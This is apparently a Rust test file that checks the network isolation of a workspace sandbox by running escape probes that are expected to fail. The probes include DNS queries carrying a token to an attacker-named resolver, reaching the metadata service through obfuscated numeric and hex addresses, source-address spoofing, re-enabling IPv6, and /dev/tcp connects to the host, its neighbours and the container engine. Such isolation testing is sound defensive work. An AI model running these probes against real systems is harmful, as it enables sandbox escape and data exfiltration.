//! Where a workspace must not get: its neighbours, the host, the cluster, private networks, metadata
//! services; not past its resolver, not under another address, not over another protocol.

use anyhow::Result;

use crate::{
    field::{
        CLOSED, COORDINATOR, EVIL, Field, INTERNET, LAN, LED, METADATA, NODE, PUBLISHED, SINK,
        Walls,
    },
    probe::{By, Probe, connect, run, send},
};

fn agent(id: &'static str, what: &str, line: String) -> Probe {
    Probe { id, what: what.to_owned(), by: By::Agent, line }
}

fn root(id: &'static str, what: &str, line: String) -> Probe {
    Probe { id, what: what.to_owned(), by: By::RootOfNetwork, line }
}

#[test]
fn a_workspace_reaches_the_internet_and_nothing_else() -> Result<()> {
    let mut field = Field::new("")?;
    reaches_the_internet(&field)?;
    let (_, b, gateway_of_b) = field.network("beta/b")?;
    let (_, own, gateway) = field.network("acme/a")?;
    // something of B's that greets
    let greet = "import socket\ns=socket.socket()\ns.setsockopt(1,2,1)\ns.bind(('',9000))\n\
                 s.listen(9)\nwhile 1:\n c,_=s.accept()\n c.send(b'canary\\n')\n c.close()\n";
    let listen = format!("nohup python3 -c \"{greet}\" >/dev/null 2>&1 &");
    field.lab.shell("beta/b", &listen)?;
    let api = field.lab.cluster.api_address()?;
    let api: u16 = api.rsplit(':').next().unwrap_or_default().parse()?;
    let mut probes = vec![
        agent("A09", "an engine on the gateway", connect(&gateway, 2375)),
        agent("A09", "an engine on the node", connect(NODE, 2375)),
        agent("A16", "B's container", connect(&b, 9000)),
        agent("A17", "B's gateway", connect(&gateway_of_b, 2222)),
        agent("A18", "the host's ssh by the gateway", connect(&gateway, 22)),
        agent("A18", "the host's ssh by the node's address", connect(NODE, 22)),
        agent("A18", "the host by the engine's own bridge", connect("10.98.0.1", 2222)),
        agent("A18", "the coordinator on this host", open(NODE, api)),
        agent("A18", "a coordinator elsewhere", connect(COORDINATOR, 7400)),
        agent("A18", "another port of a coordinator's host", connect(COORDINATOR, 22)),
        agent("A18", "a datagram to the host", send(NODE, SINK)),
        agent("A18", "a datagram to the gateway", send(&gateway, SINK)),
        agent("A18", "a port that the host publishes", connect(NODE, PUBLISHED)),
        agent("A18", "an address that the host leads elsewhere", connect(LED, PUBLISHED)),
        agent("A19", "the metadata service", connect(METADATA, 443)),
        agent("A19", "the metadata service as a number", connect("2852039166", 443)),
        agent("A19", "the metadata service in hexadecimal", connect("0xa9fea9fe", 443)),
        agent("A19", "a datagram to the metadata service", send(METADATA, SINK)),
        agent("A23", "a resolver of the attacker's, TCP", open(EVIL, 53)),
        agent("A23", "a resolver of the attacker's over TLS", connect(EVIL, 853)),
        agent("A23", "a resolver of the attacker's over QUIC", send(EVIL, 853)),
        agent("A23", "a question to a resolver of the attacker's", question(EVIL)),
        agent("A23", "a question to the host's resolver by its address", question(INTERNET)),
        agent("A24", "a datagram to a private network", send(LAN, SINK)),
        agent("A25", "ssh in a private network", connect(LAN, 22)),
        root("A24", "an ICMP echo to the internet", echo(INTERNET)),
        root("A24", "an ICMP echo to the gateway", echo(&gateway)),
        root("A26", "the host over IPv6", over_ipv6()),
        root("P31", "a datagram under another network's address", spoofed("192.0.2.77")),
        root("P31", "a datagram under B's address", spoofed(&b)),
        root("P31", "a datagram under the gateway's network", spoofed_beside(&own)),
    ];
    probes.extend(CLOSED.map(|address| {
        agent("A18", &format!("a closed range ({address})"), connect(address, 5432))
    }));
    run(&mut field, &probes, &Walls)
}

/// A port that does not greet but lets connect.
fn open(address: &str, port: u16) -> String {
    format!("timeout 4 bash -c 'exec 3<>/dev/tcp/{address}/{port}' && echo seen")
}

/// A question for the name `TOKEN.evil.example`, sent as it is.
fn question(address: &str) -> String {
    format!(
        "python3 -c \"import socket\nn='TOKEN.evil.example'\n\
         q=b'\\\\x12\\\\x34\\\\1\\\\0\\\\0\\\\1\\\\0\\\\0\\\\0\\\\0\\\\0\\\\0'\
         +b''.join(bytes([len(l)])+l.encode() for l in n.split('.'))+b'\\\\0\\\\0\\\\1\\\\0\\\\1'\n\
         s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.sendto(q,('{address}',53))\n\"; sleep 0.5"
    )
}

fn echo(address: &str) -> String {
    format!("ping -c 2 -W 1 {address} >/dev/null && echo seen")
}

/// The bridge's link-local address, once root has switched IPv6 on again.
fn over_ipv6() -> String {
    "sysctl -qw net.ipv6.conf.all.disable_ipv6=0 net.ipv6.conf.eth0.disable_ipv6=0; \
     for i in $(seq 30); do ip -6 addr show dev eth0 | grep -q tentative || break; sleep 0.1; done; \
     ping -6 -c 3 -i 0.3 -W 1 ff02::1%eth0 | grep -q 'bytes from' && \
     ping -6 -c 3 -i 0.3 -W 1 ff02::1%eth0 | grep -v $(ip -6 -o addr show dev eth0 \
     | awk '{print $4}' | cut -d/ -f1) | grep -q 'bytes from' && echo seen"
        .to_owned()
}

/// A datagram to the internet under an address that is not A's.
fn spoofed(address: &str) -> String {
    format!(
        "ip address add {address}/32 dev eth0; python3 -c \"import socket\n\
         s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.bind(('{address}',0))\n\
         [s.sendto(b'TOKEN',('{INTERNET}',{SINK})) for i in range(3)]\n\"; sleep 0.5; \
         ip address del {address}/32 dev eth0"
    )
}

/// As [`spoofed`], under an address that no bridge of this node has yet.
fn spoofed_beside(own: &str) -> String {
    let network = own.rsplit_once('.').map_or("10.213.0", |(network, _)| network);
    spoofed(&format!("{network}.250"))
}

fn reaches_the_internet(field: &Field) -> Result<()> {
    for (what, line) in [
        ("by address", connect(INTERNET, 443)),
        ("another host", connect(EVIL, 5432)),
        ("by name", connect("www.example", 443)),
        (
            "git over HTTP",
            format!("git ls-remote {} >&2 && echo seen", field.lab.repository("hello")),
        ),
    ] {
        let output = field.in_a(&line)?;
        anyhow::ensure!(
            output.stdout.contains("seen"),
            "the internet is closed {what}: {output:?}"
        );
    }
    field.in_a(&send(INTERNET, SINK).replace("TOKEN", "allowed-datagram"))?;
    anyhow::ensure!(field.log.holds("allowed-datagram"), "datagrams do not reach the internet");
    Ok(())
}
